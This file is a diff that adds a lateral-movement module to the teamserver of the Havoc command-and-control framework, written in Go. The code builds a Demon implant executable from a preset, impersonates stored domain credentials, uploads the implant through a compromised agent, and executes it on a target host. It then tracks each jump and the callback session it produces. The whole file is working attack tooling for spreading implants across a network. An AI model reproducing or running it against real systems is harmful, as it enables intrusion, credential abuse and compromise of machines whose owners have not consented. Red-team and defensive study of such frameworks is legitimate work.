@@ -0,0 +1,308 @@
+package server
+
+import (
+	"errors"
+	"fmt"
+	"math/rand"
+	"regexp"
+	"strconv"
+	"time"
+
+	"Havoc/pkg/agent"
+	"Havoc/pkg/common"
+	"Havoc/pkg/common/builder"
+	"Havoc/pkg/db"
+	"Havoc/pkg/events"
+	"Havoc/pkg/logger"
+)
+
+var (
+	lateralTarget = regexp.MustCompile(`^[A-Za-z0-9._-]+$`)
+	lateralName   = regexp.MustCompile(`^[A-Za-z0-9_-]{1,32}$`)
+	lateralInput  = regexp.MustCompile(`^[A-Za-z0-9._@\\-]{1,64}$`)
+)
+
+// LateralMove
+// jumps from the agent to the target using one of the jump methods. The
+// teamserver builds the payload of the build preset in the format of the
+// method, uploads it through the agent and executes it on the target.
+// Network access uses the credential of the credential store if one has
+// been specified. Every jump is recorded as edge of the asset graph and
+// linked to the session it resulted in once the target connects back.
+func (t *Teamserver) LateralMove(User string, Info map[string]any) (int, error) {
+	var (
+		AgentID, _    = Info["AgentID"].(string)
+		MethodName, _ = Info["Method"].(string)
+		Target, _     = Info["Target"].(string)
+		PresetName, _ = Info["Preset"].(string)
+		CredentialID  = 0
+		Credential    db.Credential
+		Name, _       = Info["Name"].(string)
+		Inputs        = make(map[string]string)
+		Agent         *agent.Agent
+		ID            int64
+		err           error
+	)
+
+	if ID, err = strconv.ParseInt(AgentID, 16, 64); err != nil {
+		return 0, errors.New("invalid agent id")
+	}
+
+	if Agent = t.AgentInstance(int(ID)); Agent == nil || t.AgentHasDied(Agent) {
+		return 0, errors.New("agent " + AgentID + " not found or dead")
+	}
+
+	if !workspaceVisible(t.UserWorkspace(User), Agent.Info.Workspace) {
+		return 0, errors.New("agent " + AgentID + " not found or dead")
+	}
+
+	Method, ok := JumpMethodGet(MethodName)
+	if !ok {
+		return 0, errors.New("unknown jump method: " + MethodName)
+	}
+
+	for _, Input := range Method.Inputs {
+		var Value, _ = Info[Input].(string)
+
+		if !lateralInput.MatchString(Value) {
+			return 0, errors.New("jump method " + Method.Name + " requires a valid " + Input)
+		}
+
+		Inputs[Input] = Value
+	}
+
+	if !lateralTarget.MatchString(Target) {
+		return 0, errors.New("invalid target: " + Target)
+	}
+
+	if err = t.BlocklistCheck(User, Agent.NameID, "jump "+Method.Name+" "+Target, "jump-"+Method.Name); err != nil {
+		return 0, err
+	}
+
+	if len(Name) == 0 {
+		Name = fmt.Sprintf("%x", rand.Uint32())
+	} else if !lateralName.MatchString(Name) {
+		return 0, errors.New("invalid service/file name: " + Name)
+	}
+
+	Preset, err := t.DB.PresetGet(PresetName)
+	if err != nil {
+		return 0, errors.New("build preset " + PresetName + " not found")
+	}
+
+	if Preset.AgentType != "Demon" {
+		return 0, errors.New("build preset " + PresetName + " is not a demon preset")
+	}
+
+	if !workspaceVisible(t.UserWorkspace(User), t.ListenerWorkspace(Preset.Listener)) {
+		return 0, errors.New("listener " + Preset.Listener + " of the build preset not found")
+	}
+
+	if Value, ok := Info["Credential"].(string); ok && len(Value) > 0 {
+		if !Method.Credential {
+			return 0, errors.New("jump method " + Method.Name + " doesn't use credentials")
+		}
+
+		if CredentialID, err = t.CredentialVisible(User, Value); err != nil {
+			return 0, err
+		}
+
+		if Credential, err = t.DB.CredentialGet(CredentialID); err != nil {
+			return 0, err
+		}
+
+		if len(Credential.Password) == 0 {
+			return 0, errors.New("credential " + Value + " has no password")
+		}
+	}
+
+	EdgeID, err := t.DB.LateralAdd(db.LateralEdge{
+		Method:     Method.Name,
+		AgentID:    Agent.NameID,
+		Target:     Target,
+		Credential: CredentialID,
+		Payload:    Preset.Name,
+		Status:     "building",
+		User:       User,
+		Time:       time.Now().Format("02/01/2006 15:04:05"),
+	})
+	if err != nil {
+		return 0, err
+	}
+
+	logger.Info(fmt.Sprintf("Lateral movement %v: %v -> %v via %v by %v [preset: %v]", EdgeID, Agent.NameID, Target, Method.Name, User, Preset.Name))
+
+	t.AgentConsole(Agent.NameID, agent.HAVOC_CONSOLE_MESSAGE, map[string]string{
+		"Type":    "Info",
+		"Message": fmt.Sprintf("Building %v payload of preset %v to jump to %v via %v", Method.Format, Preset.Name, Target, Method.Name),
+	})
+
+	go func() {
+		Payload, err := t.lateralPayload(Agent, Preset, Method.Format)
+		if err != nil {
+			t.lateralFailed(Agent, EdgeID, "failed to build payload: "+err.Error())
+			return
+		}
+
+		if CredentialID != 0 {
+			Agent.TokenMake(Credential.Domain, Credential.Username, Credential.Password)
+		}
+
+		Agent.Upload(Method.Upload(Target, Name, Inputs), Payload)
+		Agent.Shell(Method.Command(Target, Name, Inputs))
+
+		if CredentialID != 0 {
+			Agent.TokenRevert()
+		}
+
+		if err = t.DB.LateralStatus(EdgeID, "tasked"); err != nil {
+			logger.Error("Failed to update lateral movement: " + err.Error())
+		}
+
+		t.jumpWait(&PendingJump{
+			EdgeID: EdgeID,
+			Parent: Agent,
+			Target: Target,
+			Time:   time.Now(),
+		})
+
+		t.AgentConsole(Agent.NameID, agent.HAVOC_CONSOLE_MESSAGE, map[string]string{
+			"Type":    "Good",
+			"Message": fmt.Sprintf("Tasked agent to jump to %v via %v [%v]", Target, Method.Name, common.ByteCountSI(int64(len(Payload)))),
+		})
+
+		t.lateralBroadcast()
+	}()
+
+	return EdgeID, nil
+}
+
+// lateralPayload
+// builds the payload of the build preset in the requested format.
+func (t *Teamserver) lateralPayload(Agent *agent.Agent, Preset db.BuildPreset, Format string) ([]byte, error) {
+	var (
+		Listener       = -1
+		PayloadBuilder = builder.NewBuilder(builder.BuilderConfig{
+			Compiler64:  t.Settings.Compiler64,
+			Compiler86:  t.Settings.Compiler32,
+			Nasm:        t.Settings.Nasm,
+			DebugDev:    t.Flags.Server.DebugDev,
+			SendLogs:    t.Flags.Server.SendLogs,
+			MaxResponse: t.DemonMaxResponse(),
+		})
+		Ext = ".x86"
+	)
+
+	PayloadBuilder.SendConsoleMessage = func(MsgType, Message string) {
+		if MsgType == "Error" {
+			t.AgentConsole(Agent.NameID, agent.HAVOC_CONSOLE_MESSAGE, map[string]string{
+				"Type":    "Error",
+				"Message": "Payload build: " + Message,
+			})
+		}
+	}
+
+	if err := PayloadBuilder.SetConfig(Preset.Config); err != nil {
+		return nil, err
+	}
+
+	if Preset.Arch == "x64" {
+		PayloadBuilder.SetArch(builder.ARCHITECTURE_X64)
+		Ext = ".x64"
+	} else {
+		PayloadBuilder.SetArch(builder.ARCHITECTURE_X86)
+	}
+
+	if Format == "Windows Service Exe" {
+		PayloadBuilder.SetFormat(builder.FILETYPE_WINDOWS_SERVICE_EXE)
+	} else {
+		PayloadBuilder.SetFormat(builder.FILETYPE_WINDOWS_EXE)
+	}
+
+	for i := 0; i < len(t.Listeners); i++ {
+		if t.Listeners[i].Name == Preset.Listener {
+			PayloadBuilder.SetListener(t.Listeners[i].Type, t.Listeners[i].Config)
+			Listener = i
+		}
+	}
+
+	if Listener < 0 {
+		return nil, errors.New("listener " + Preset.Listener + " of the build preset not found")
+	}
+
+	Fallbacks, err := t.ListenerFallbacks(Preset.Config, Preset.Listener)
+	if err != nil {
+		return nil, err
+	}
+
+	PayloadBuilder.SetFallbacks(Fallbacks)
+	PayloadBuilder.SetExtension(Ext + ".exe")
+	PayloadBuilder.SetExcludeHosts(t.InfraBurnedHosts())
+
+	if t.Profile.Config.Demon != nil && t.Profile.Config.Demon.Binary != nil {
+		PayloadBuilder.SetPatchConfig(t.Profile.Config.Demon.Binary)
+	}
+
+	if !PayloadBuilder.Build() {
+		return nil, errors.New("build failed")
+	}
+
+	defer PayloadBuilder.DeletePayload()
+
+	Payload := PayloadBuilder.GetPayloadBytes()
+	if len(Payload) == 0 {
+		return nil, errors.New("empty payload")
+	}
+
+	return Payload, nil
+}
+
+func (t *Teamserver) lateralFailed(Agent *agent.Agent, EdgeID int, Reason string) {
+	logger.Error(fmt.Sprintf("Lateral movement %v failed: %v", EdgeID, Reason))
+
+	if err := t.DB.LateralStatus(EdgeID, "failed: "+Reason); err != nil {
+		logger.Error("Failed to update lateral movement: " + err.Error())
+	}
+
+	t.AgentConsole(Agent.NameID, agent.HAVOC_CONSOLE_MESSAGE, map[string]string{
+		"Type":    "Error",
+		"Message": "Lateral movement failed: " + Reason,
+	})
+
+	t.lateralBroadcast()
+}
+
+// LateralEdges
+// returns the lateral movements of the agents visible to the workspace.
+func (t *Teamserver) LateralEdges(Workspace string) []db.LateralEdge {
+	var (
+		Workspaces = t.DB.AgentWorkspaces()
+		Edges      []db.LateralEdge
+	)
+
+	for _, Edge := range t.DB.LateralEdges() {
+		var AgentID, _ = strconv.ParseInt(Edge.AgentID, 16, 64)
+
+		if !workspaceVisible(Workspace, workspaceOrDefault(Workspaces[int(AgentID)])) {
+			continue
+		}
+
+		Edges = append(Edges, Edge)
+	}
+
+	return Edges
+}
+
+// lateralBroadcast
+// sends every client the lateral movements of its workspace.
+func (t *Teamserver) lateralBroadcast() {
+	t.Clients.Range(func(key, value any) bool {
+		var client = value.(*Client)
+
+		if err := t.SendEvent(key.(string), events.Lateral.List(t.LateralEdges(client.Workspace))); err != nil {
+			logger.Error("Failed to send Event: " + err.Error())
+		}
+
+		return true
+	})
+}